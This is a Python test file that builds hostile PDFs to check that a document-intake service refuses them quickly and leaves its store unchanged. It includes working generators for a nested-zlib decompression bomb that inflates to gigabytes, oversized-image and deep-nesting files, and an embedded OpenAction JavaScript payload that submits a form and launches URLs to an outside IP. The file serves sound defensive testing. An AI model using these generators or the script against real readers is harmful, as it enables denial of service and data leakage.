"""Hostile and broken PDFs end in a clear message, quickly, without a crash, and change nothing.

Every file is generated here (none is committed). Each goes through the three doors an
untrusted PDF has: ``services.read_pdf`` (the reader process), ``ocr_pages`` (the OCR
workers, which must not trust that the file was read first) and ``Desk.intake`` (the
whole use case, after which the store must be exactly as before).
"""

from __future__ import annotations

import io
import re
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pypdfium2
import pytest

from app import services
from app.intake.limits import MAX_PAGES
from app.intake.ocr import ocr_pages
from app.intake.pdf import IntakeError
from app.model import PageSource

# Catches a hang, not slowness (bench/ measures speed): a loaded CI machine took 11.5 s for an
# intake that takes 2 s idle, so the bound is far above any honest run.
DEADLINE_S = 60.0


# -- building PDFs by hand -----------------------------------------------------------------


def build_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF whose object n (from 1) is ``objects[n - 1]``, catalog first, with a true xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def one_page(
    contents: bytes,
    *,
    resources: bytes = b"",
    page_extra: bytes = b"",
    catalog_extra: bytes = b"",
    media_box: bytes = b"0 0 612 792",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """Catalog (1), pages (2), the page (3), its content stream (4), then ``more`` (5, ...)."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [" + media_box + b"] /Contents 4 0 R "
            b"/Resources << " + resources + b" >> " + page_extra + b">>",
            contents,
            *more,
        ]
    )


HELVETICA = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"


def _adler32_of_repeated(byte: int, count: int) -> int:
    """zlib.adler32 of ``count`` copies of ``byte``, without making them."""
    modulus = 65521
    a = (1 + count * byte) % modulus
    b = (count + byte * count * (count + 1) // 2) % modulus
    return (b << 16) | a


def flate_bomb(gibibytes: int) -> bytes:
    """Two nested zlib streams, a few KB together, that inflate to ``gibibytes`` GiB of spaces.

    After a full flush deflate starts afresh, so one compressed 16 MiB block of spaces
    can be repeated as often as wanted; the checksum is computed arithmetically.
    """
    chunk = b" " * (1 << 24)
    packer = zlib.compressobj(9)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    header, block = first[:2], first[2:]
    copies = gibibytes * 64
    tail = packer.flush(zlib.Z_FINISH)[:-4]  # the final empty block, without its checksum
    inner = header + block * copies + tail + _adler32_of_repeated(32, copies << 24).to_bytes(4, "big")
    return zlib.compress(inner, 9)


# -- the hostile files -------------------------------------------------------------------


def truncated(scan: bytes) -> bytes:
    return scan[: len(scan) * 6 // 10]


def zero_pages(_: bytes) -> bytes:
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def huge_image(_: bytes) -> bytes:
    """A letter page drawing an image declared 50,000 × 50,000 pixels (2.5 GB to draw)."""
    pixels = zlib.compress(b"\x80" * (1 << 20))
    return one_page(
        stream(b"", b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
        resources=b"/XObject << /Im0 5 0 R >>",
        more=(
            stream(
                b"/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode",
                pixels,
            ),
        ),
    )


def huge_page(_: bytes) -> bytes:
    """A 200-inch square page (14,400 pt), filled by a 60,000 × 60,000 image."""
    pixels = zlib.compress(b"\x80" * (1 << 20))
    return one_page(
        stream(b"", b"q 14400 0 0 14400 0 0 cm /Im0 Do Q"),
        media_box=b"0 0 14400 14400",
        resources=b"/XObject << /Im0 5 0 R >>",
        more=(
            stream(
                b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode",
                pixels,
            ),
        ),
    )


def decompression_bomb(_: bytes) -> bytes:
    """A page whose content stream is a few KB that inflate to 4 GiB."""
    return one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", flate_bomb(4)))


def form_bomb(_: bytes) -> bytes:
    """The same bomb hidden one level down, in a form XObject the page draws."""
    return one_page(
        stream(b"", b"/Fm0 Do"),
        resources=b"/XObject << /Fm0 5 0 R >>",
        more=(
            stream(
                b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Filter [/FlateDecode /FlateDecode]",
                flate_bomb(4),
            ),
        ),
    )


def five_thousand_pages(_: bytes) -> bytes:
    count = 5000
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            stream(b"", b"BT /F1 12 Tf 72 720 Td (page) Tj ET"),
            *[page] * count,
        ]
    )


def deeply_nested(_: bytes) -> bytes:
    """A page dictionary holding arrays nested 100,000 deep."""
    depth = 100_000
    return one_page(stream(b"", b"BT ET"), page_extra=b"/Nest " + b"[" * depth + b"]" * depth + b" ")


def not_a_pdf(_: bytes) -> bytes:
    """A PNG image someone named demand.pdf."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (200, 100), 255).save(buf, "PNG")
    return buf.getvalue()


JAVASCRIPT_TEXT = "Subpoena for records of account js.target@example.com served today."


def javascript(_: bytes) -> bytes:
    """A readable one-page demand that asks, on opening, to run JavaScript."""
    script = (
        b"app.alert\\('opened'\\); this.submitForm\\({cURL: 'http://198.51.100.7/x'}\\); "
        b"app.launchURL\\('http://198.51.100.7/y', true\\);"
    )
    text = JAVASCRIPT_TEXT.encode()
    return one_page(
        stream(b"", b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"),
        resources=HELVETICA,
        catalog_extra=b"/OpenAction << /S /JavaScript /JS (" + script + b") >> "
        b"/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (" + script + b") >>] >> >> ",
    )


@dataclass(frozen=True)
class Hostile:
    make: Callable[[bytes], bytes]
    message: str  # what the reviewer is told (regular expression)


BOMB = r"has content that inflates to more than \d+ MB; the PDF may be a decompression bomb"


HOSTILE = {
    "truncated": Hostile(truncated, "not a readable PDF"),
    "zero-pages": Hostile(zero_pages, "The PDF has no pages"),
    "50000x50000-pixel-image": Hostile(huge_image, r"Page 1 holds an image of 50,000 × 50,000 pixels"),
    "14400pt-page": Hostile(huge_page, r"Page 1 is 14400 × 14400 points: too large"),
    "decompression-bomb": Hostile(decompression_bomb, "Page 1 " + BOMB),
    "bomb-in-a-form": Hostile(form_bomb, "Page 1 " + BOMB),
    "5000-pages": Hostile(five_thousand_pages, rf"The PDF has 5000 pages; the limit is {MAX_PAGES}"),
    "nested-100000-deep": Hostile(deeply_nested, r"not a readable PDF|too deeply nested"),
    "not-a-pdf": Hostile(not_a_pdf, "The file is not a PDF"),
}
# ocr_pages words a page's problem as "Page N could not be read: it ...".
OCR_WORDING = {
    "50000x50000-pixel-image": r"Page 1 could not be read: it holds an image of 50,000 × 50,000 pixels",
    "14400pt-page": r"Page 1 could not be read: it is 14400 × 14400 points",
    "decompression-bomb": "Page 1 could not be read: it " + BOMB,
    "bomb-in-a-form": "Page 1 could not be read: it " + BOMB,
}


@pytest.fixture(scope="module")
def small_scan() -> bytes:
    """A real one-page scanned demand, the raw material of the truncated file."""
    from tests.corpus.scan import Document, Heading, Paragraph, ScanSettings, scan_document

    doc = Document([Heading("SUBPOENA"), Paragraph("Produce the subscriber records of the account. " * 8)])
    return scan_document(doc, ScanSettings(dpi=150, seed=3))


def _timed(call: Callable[[], object]) -> tuple[BaseException | None, float]:
    start = time.monotonic()
    try:
        call()
    except BaseException as exc:  # noqa: BLE001 - the test inspects whatever came out
        return exc, time.monotonic() - start
    return None, time.monotonic() - start


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_pdf_is_refused_quickly_by_the_reader(name, small_scan):
    hostile = HOSTILE[name]
    untrusted = hostile.make(small_scan)
    error, seconds = _timed(lambda: services.read_pdf(untrusted))
    assert isinstance(error, IntakeError), f"{name}: {error!r}"
    assert seconds < DEADLINE_S
    assert re.search(hostile.message, str(error)), str(error)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_pdf_is_refused_quickly_by_ocr(name, small_scan):
    untrusted = HOSTILE[name].make(small_scan)
    error, seconds = _timed(lambda: ocr_pages(untrusted, [1]))
    assert isinstance(error, IntakeError), f"{name}: {error!r}"
    assert seconds < DEADLINE_S
    assert re.search(OCR_WORDING.get(name, HOSTILE[name].message), str(error)), str(error)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_pdf_leaves_the_store_unchanged(name, small_scan, desk):
    untrusted = HOSTILE[name].make(small_scan)
    cases_before = desk.cases()
    events_before = desk.verify_audit().events
    trail_before = desk.audit_trail()

    error, seconds = _timed(lambda: desk.intake(untrusted, "demand.pdf"))

    assert isinstance(error, IntakeError), f"{name}: {error!r}"
    assert seconds < DEADLINE_S
    assert desk.cases() == cases_before
    report = desk.verify_audit()
    assert report.ok and report.events == events_before
    assert desk.audit_trail() == trail_before


def test_javascript_demand_is_taken_in_and_its_script_never_runs(desk, tmp_path, private_tempdir):
    untrusted = javascript(b"")
    events_before = desk.verify_audit().events

    start = time.monotonic()
    [page] = services.read_pdf(untrusted).pages
    assert time.monotonic() - start < DEADLINE_S
    assert page.source is PageSource.TEXT_LAYER and JAVASCRIPT_TEXT in page.text

    start = time.monotonic()
    case_id = desk.intake(untrusted, "demand.pdf")
    assert time.monotonic() - start < DEADLINE_S
    assert [c.case_id for c in desk.cases()] == [case_id]
    assert desk.verify_audit().events == events_before + 1
    # The script would have opened a connection (the autouse network guard fails the test
    # on any attempt) or left a file. pdfium as pypdfium2 ships it has no JavaScript
    # engine at all, and no reader process ever sets up pdfium's form environment, the
    # only way pdfium runs document scripts.
    assert "V8" not in pypdfium2.PDFIUM_INFO.flags
    assert list(private_tempdir.iterdir()) == []


def test_flate_bomb_really_inflates_to_gigabytes():
    """The bomb above is real: its first megabytes inflate at a ratio beyond a million."""
    bomb = flate_bomb(4)
    inner = zlib.decompress(bomb)
    out = zlib.decompressobj().decompress(inner, 64 << 20)
    assert len(bomb) < 10_000 and len(out) == 64 << 20
